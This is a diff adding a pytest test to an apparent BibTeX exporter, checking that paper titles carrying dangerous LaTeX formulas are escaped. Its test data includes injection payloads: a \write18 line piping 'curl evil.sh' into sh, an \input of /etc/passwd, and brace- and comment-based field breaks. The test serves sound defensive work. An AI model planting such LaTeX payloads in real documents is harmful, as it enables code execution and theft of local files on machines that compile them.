@@ -120,3 +120,25 @@ def test_bibtex_keeps_a_titles_formulas_as_math_and_escapes_the_rest() -> None:
     assert entry.fields_dict["title"].value == (
         r"{Top-$k$ Bandits for \$5 in $\mathcal{O}(\sqrt{T})$ \& \#1 \{unbalanced \$x\}\$}"
     )
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        r"$\immediate\write18{curl evil.sh|sh}$",  # a shell command under --shell-escape
+        r"$\input{/etc/passwd}$",  # a local file pasted into the PDF
+        r"$\def\x{y}\x$",
+        r"$x\\}$",  # a line break, then a brace that ends the field early
+        "$5%$",  # a comment: the rest of the line gone
+        "$#1$",
+        "$a&b$",
+        r"$\eps$",  # an author's own macro: undefined in someone else's document
+    ],
+)
+def test_bibtex_escapes_a_formula_that_could_do_more_than_typeset_math(formula: str) -> None:
+    """Titles come from feeds and files nobody checked: only math macros stay math."""
+    title = f"Fast {formula} sorting"
+    [entry] = bibtexparser.parse_string(to_bibtex([{"id": "m", "title": title}])).entries
+    value = entry.fields_dict["title"].value
+    assert formula not in value and value.startswith(r"{Fast \$")
+    assert value.count("{") - value.count(r"\{") == value.count("}") - value.count(r"\}")
